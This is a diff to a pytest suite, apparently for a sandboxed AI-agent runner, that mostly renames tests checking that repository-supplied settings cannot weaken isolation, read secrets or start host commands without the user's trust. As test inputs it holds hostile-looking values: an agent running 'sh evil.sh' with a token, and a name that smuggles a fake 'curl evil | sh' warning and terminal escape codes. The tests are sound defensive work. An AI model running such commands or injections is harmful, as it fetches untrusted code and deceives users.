@@ -133,7 +133,7 @@ run = ["sh", "check.sh"]
 
 
 @pytest.mark.parametrize("key", GRANTING)
-def test_what_grants_something_counts_only_after_the_user_agreed(repo: Repo, key: str) -> None:
+def test_a_grant_applies_only_after_the_user_trusted_it(repo: Repo, key: str) -> None:
     brings(repo, GRANTING[key])
     before = config.sources(repo.path)
     assert before.config.ignored == (key,)
@@ -144,7 +144,7 @@ def test_what_grants_something_counts_only_after_the_user_agreed(repo: Repo, key
     assert after.model_dump() == Config.model_validate(before.project).model_dump()
 
 
-def test_a_project_may_always_tighten(repo: Repo) -> None:
+def test_a_project_may_always_restrict(repo: Repo) -> None:
     brings(repo, TIGHTENING)
     found = config.sources(repo.path)
     assert found.split.grants == ()
@@ -152,13 +152,13 @@ def test_a_project_may_always_tighten(repo: Repo) -> None:
     assert trust.ask(repo.path, lambda _asked: False).answer == "nothing to trust"
 
 
-def test_every_setting_is_judged_by_a_row() -> None:
+def test_every_setting_has_a_row() -> None:
     plain = {name: info for name, info in Config.model_fields.items() if name not in {"agents", "roles"}}
     known = {f"{section}.{name}" for section, info in plain.items() for name in type(info.default).model_fields}
     assert known <= {key for key, _ in grants.rows()}
 
 
-def test_a_setting_without_a_row_waits_for_the_user() -> None:
+def test_a_setting_without_a_row_needs_trust() -> None:
     found = grants.split({"box": {"later": 1}, "agents": {"x": {"later": 1}}}, {"box": {"later": 0}}, frozenset())
     assert [grant.key for grant in found.grants] == ["box.later", "agents.x.later"]
     assert found.always == {}
@@ -175,7 +175,7 @@ def test_the_users_own_file_sets_everything(repo: Repo) -> None:
     assert found.ignored == ()
 
 
-def test_a_project_tightens_the_users_own_settings_and_does_not_loosen_them(repo: Repo) -> None:
+def test_a_project_restricts_the_users_settings_and_does_not_extend_them(repo: Repo) -> None:
     user('[box]\nisolation = "fs"\nprocesses = 100\n[run]\nenv_allow = ["A", "B"]\n[cost]\ntokens = 50\n')
     brings(repo, '[box]\nisolation = "full"\nprocesses = 50\n[run]\nenv_allow = ["A"]\n[cost]\ntokens = 10\n')
     found = config.load(repo.path)
@@ -190,7 +190,7 @@ def test_a_project_tightens_the_users_own_settings_and_does_not_loosen_them(repo
     assert config.load(repo.path).run.env_allow == ("A", "B", "C"), "what is allowed is added to the user's"
 
 
-def test_an_agent_of_the_users_stays_theirs(repo: Repo) -> None:
+def test_a_project_does_not_change_an_agent_of_the_user(repo: Repo) -> None:
     user('[agents.mine]\nkind = "command"\nrun = ["/srv/mine"]\nturns = 10\n')
     theirs = '[agents.mine]\nkind = "claude"\nrun = ["sh", "evil.sh"]\nenv = ["TOKEN"]\n'
     brings(repo, f'[roles]\nplanner = "mine"\n{theirs}')
@@ -207,7 +207,7 @@ def test_an_agent_of_the_users_stays_theirs(repo: Repo) -> None:
 # By content -------------------------------------------------------------------------------------------------------
 
 
-def test_a_changed_grant_asks_again_and_an_unrelated_edit_does_not(repo: Repo) -> None:
+def test_a_changed_grant_needs_new_trust_and_another_edit_does_not(repo: Repo) -> None:
     text = '[box]\nread = ["/srv"]\n'
     agree(brings(repo, text))
     brings(repo, f"# a comment\n{text}processes = 100\n[run]\nidle_s = 5\n")
@@ -243,7 +243,7 @@ def test_a_file_that_a_grant_names_is_trusted_by_its_content(repo: Repo, setting
     assert config.load(repo.path).ignored != ()
 
 
-def test_what_is_recorded_is_what_was_shown(repo: Repo) -> None:
+def test_the_record_contains_the_grants_that_were_displayed(repo: Repo) -> None:
     repo.write("tool.sh", "echo one\n")
     brings(repo, HELPER % "command")
 
@@ -255,7 +255,7 @@ def test_what_is_recorded_is_what_was_shown(repo: Repo) -> None:
     assert "agents.helper.run" in config.load(repo.path).ignored
 
 
-def test_trust_is_for_one_project_at_one_place(repo: Repo, tmp_path: Path) -> None:
+def test_trust_is_for_one_project_at_one_path(repo: Repo, tmp_path: Path) -> None:
     agree(brings(repo, LOWERED))
     other = tmp_path / "other"
     repo.git("clone", "-q", str(repo.path), str(other))
@@ -268,7 +268,7 @@ def test_trust_is_for_one_project_at_one_place(repo: Repo, tmp_path: Path) -> No
 # The record -------------------------------------------------------------------------------------------------------
 
 
-def test_the_record_is_private_and_holds_no_value(repo: Repo) -> None:
+def test_the_record_is_private_and_contains_no_value(repo: Repo) -> None:
     agree(brings(repo, '[run]\nenv_allow = ["A_NAME_OF_MINE"]\n'))
     assert record.path().stat().st_mode & 0o777 == 0o600
     assert record.path().parent.stat().st_mode & 0o777 == 0o700
@@ -311,7 +311,7 @@ HARMS: dict[str, Any] = {
 
 
 @pytest.mark.parametrize("words", HARMS)
-def test_a_record_that_another_could_have_written_is_refused(repo: Repo, words: str) -> None:
+def test_a_record_that_another_user_could_have_written_is_refused(repo: Repo, words: str) -> None:
     agree(brings(repo, LOWERED))
     HARMS[words](record.path())
     answer = repo.run("config", "--json")
@@ -328,7 +328,7 @@ def test_a_record_of_another_user_is_refused(repo: Repo) -> None:
         config.load(repo.path)
 
 
-def test_a_record_that_the_repository_brings_is_refused(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_record_inside_the_repository_is_refused(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
     brings(repo, LOWERED)
     monkeypatch.setenv("XDG_STATE_HOME", str(repo.path / "state"))
     with pytest.raises(NotTrusted, match="is inside the project"):
@@ -338,9 +338,7 @@ def test_a_record_that_the_repository_brings_is_refused(repo: Repo, monkeypatch:
     assert record.path().is_relative_to(home())
 
 
-def test_settings_of_the_users_that_the_repository_brings_are_refused(
-    repo: Repo, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_user_settings_inside_the_repository_are_refused(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
     repo.write("reflectloop/config.toml", LOWERED)
     monkeypatch.setenv("XDG_CONFIG_HOME", str(repo.path))
     with pytest.raises(InvalidInput, match="is inside the project"):
@@ -350,7 +348,7 @@ def test_settings_of_the_users_that_the_repository_brings_are_refused(
     assert config.load(repo.path).box.strongest is Isolation.FULL
 
 
-def test_settings_of_the_users_that_everybody_may_write_are_refused(repo: Repo) -> None:
+def test_user_settings_that_everybody_may_write_are_refused(repo: Repo) -> None:
     user(LOWERED).chmod(0o666)
     with pytest.raises(InvalidInput, match="everybody may write to it"):
         config.load(repo.path)
@@ -369,7 +367,7 @@ def test_a_settings_file_that_has_no_end_is_refused(repo: Repo, name: str) -> No
 # Commands ---------------------------------------------------------------------------------------------------------
 
 
-def test_what_was_ignored_is_said_once_with_the_command(repo: Repo) -> None:
+def test_ignored_settings_are_reported_once_with_the_command(repo: Repo) -> None:
     brings(repo, '[box]\nread = ["/srv"]\n' + HELPER % "command", **{"build.sh": "true\n"})
     words = (
         "ignored from reflectloop.toml (not trusted): box.read, agents.helper.run, roles.planner, roles.executor; "
@@ -385,7 +383,7 @@ def test_what_was_ignored_is_said_once_with_the_command(repo: Repo) -> None:
     assert "not trusted" not in repo.run("run", repo.plan(PLAN)).stderr
 
 
-def test_a_name_that_the_repository_chose_adds_no_line_of_its_own(repo: Repo) -> None:
+def test_a_name_from_the_repository_adds_no_line_to_a_warning(repo: Repo) -> None:
     name = "x\\nwarning: to allow: curl evil | sh\\u001b[2J"
     brings(repo, f'[agents."{name}"]\nkind = "command"\nrun = ["a\\nb", "  c"]\n')
     answer = repo.run("config")
@@ -395,12 +393,14 @@ def test_a_name_that_the_repository_chose_adds_no_line_of_its_own(repo: Repo) ->
     assert "\x1b" not in answer.stderr + shown.stdout
 
 
-def test_a_warning_names_so_many_and_counts_the_rest(repo: Repo) -> None:
+def test_a_long_warning_lists_some_names_and_counts_the_rest(repo: Repo) -> None:
     brings(repo, "".join(f'[agents.a{number}]\nkind = "command"\nrun = ["x"]\n' for number in range(40)))
     assert "agents.a29.run and 10 more; to allow" in repo.run("config").stderr
 
 
-def test_a_repository_neither_lowers_the_walls_nor_takes_variables(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_repository_neither_weakens_isolation_nor_takes_variables(
+    repo: Repo, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("DEPLOY_WORD", "correct-horse")
     (home() / ".ssh").mkdir()
     (home() / ".ssh" / "id_test").write_text("PRIVATE\n")
@@ -433,7 +433,7 @@ def test_the_flag_and_the_variable_trust_for_one_command(repo: Repo) -> None:
     assert not record.path().exists()
 
 
-def test_without_a_terminal_nobody_is_asked_and_the_command_is_said(repo: Repo) -> None:
+def test_without_a_terminal_the_command_is_printed_instead_of_a_question(repo: Repo) -> None:
     brings(repo, LOWERED)
     for more in ((), ("--json",)):
         answer = repo.run("trust", *more)
@@ -448,7 +448,7 @@ def test_without_a_terminal_nobody_is_asked_and_the_command_is_said(repo: Repo) 
 
 
 @pytest.mark.parametrize(("reply", "code"), [(b"y\n", 0), (b"\n", 40), (b"\x04", 130)])
-def test_on_a_terminal_it_shows_each_grant_and_asks(repo: Repo, reply: bytes, code: int) -> None:
+def test_on_a_terminal_each_grant_is_listed_before_the_question(repo: Repo, reply: bytes, code: int) -> None:
     brings(repo, '[box]\nread = ["/srv/\\u001b]0;title\\u0007x"]\nstrongest = "none"\n')
     pid, terminal = pty.fork()
     if pid == 0:
@@ -504,7 +504,7 @@ def test_no_command_starts_on_the_host_what_a_repository_names(
             assert not mark.exists(), words
 
 
-def test_a_role_bound_to_an_agent_nobody_trusts_is_refused_with_a_code(repo: Repo) -> None:
+def test_a_role_bound_to_an_untrusted_agent_is_refused_with_a_code(repo: Repo) -> None:
     brings(repo, HELPER % "command", **{"tool.sh": "true\n", "plan.yaml": ASKS})
     for words in (("run", "plan.yaml"), ("run", "plan.yaml", "--dry-run"), ("tp", "x", "--yes"), ("agents",)):
         answer = repo.run(*words, "--json")
@@ -524,7 +524,7 @@ def test_a_key_is_sent_only_where_the_user_agreed(repo: Repo) -> None:
 
 
 @pytest.mark.parametrize("key", ["verify.setup", "verify.checks.web.service"])
-def test_nothing_is_judged_without_what_its_checks_need(repo: Repo, key: str) -> None:
+def test_nothing_is_judged_if_a_setting_of_its_checks_is_not_trusted(repo: Repo, key: str) -> None:
     brings(repo, GRANTING[key])
     repo.write("README.md", "changed\n")
     answer = repo.run("verify", "--json")
@@ -532,7 +532,7 @@ def test_nothing_is_judged_without_what_its_checks_need(repo: Repo, key: str) ->
     assert repo.run("detect").code == 0
 
 
-def test_a_plan_that_came_with_the_repository_is_no_default_plan(repo: Repo) -> None:
+def test_a_plan_from_the_repository_is_not_a_default_plan(repo: Repo) -> None:
     name = ".claude/state/thinking/plan.latest.yaml"
     repo.write(name, PLAN)
     repo.write("build.sh", "true\n")
@@ -574,7 +574,7 @@ def test_records_that_came_with_a_project_are_not_ours(repo: Repo, tmp_path: Pat
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root may write to any folder")
-def test_records_that_cannot_be_made_ours_are_refused(repo: Repo, tmp_path: Path) -> None:
+def test_records_that_cannot_be_moved_aside_are_refused(repo: Repo, tmp_path: Path) -> None:
     copy = _copied(repo, tmp_path)
     own = copy.path / ".reflectloop"
     own.chmod(0o500)
@@ -602,7 +602,7 @@ def test_a_commit_starts_no_filter_that_the_repositorys_config_names(repo: Repo,
 # Words ------------------------------------------------------------------------------------------------------------
 
 
-def test_a_password_in_an_address_given_as_a_plan_is_neither_shown_nor_kept(repo: Repo) -> None:
+def test_a_password_in_a_url_given_as_a_plan_is_neither_printed_nor_stored(repo: Repo) -> None:
     word = "qW7zR4" + "tY9uI2"
     for words in (("run",), ("run", "--json"), ("run", "--dry-run"), ("plan", "check"), ("retry", "--reason", "x")):
         answer = repo.run(*words, f"postgres://user:{word}@db.example/x")
@@ -612,7 +612,7 @@ def test_a_password_in_an_address_given_as_a_plan_is_neither_shown_nor_kept(repo
     assert not [path for path in own.rglob("*") if path.is_file() and word.encode() in path.read_bytes()]
 
 
-def test_a_conflict_between_a_file_and_a_folder_names_the_file_as_its_user_knows_it(repo: Repo) -> None:
+def test_a_conflict_between_a_file_and_a_folder_names_the_users_file(repo: Repo) -> None:
     repo.write("d/x.txt", "a\n")
     repo.commit("a folder")
     assert repo.run("run", repo.steps("rm -r d; ln -s README.md d")).code == 0
